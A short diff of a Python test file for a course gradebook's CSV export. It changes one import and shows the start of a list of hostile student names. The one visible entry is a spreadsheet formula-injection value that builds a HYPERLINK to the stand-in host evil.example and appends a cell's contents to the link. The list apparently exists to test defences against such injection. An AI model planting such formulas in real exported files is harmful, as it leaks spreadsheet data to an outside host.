@@ -16,7 +16,7 @@ import pytest
 
 from course.cli import main
 from course.gradebook import GradeRow, write_course_totals, write_grades_csv
-from helpers import ROOT
+from tests.support.helpers import ROOT
 
 HOSTILE_NAMES = [
     'Smith;=HYPERLINK("http://evil.example/?"&A1;"x")',   # `;` as the list separator: "=HYPERLINK(..." is a cell
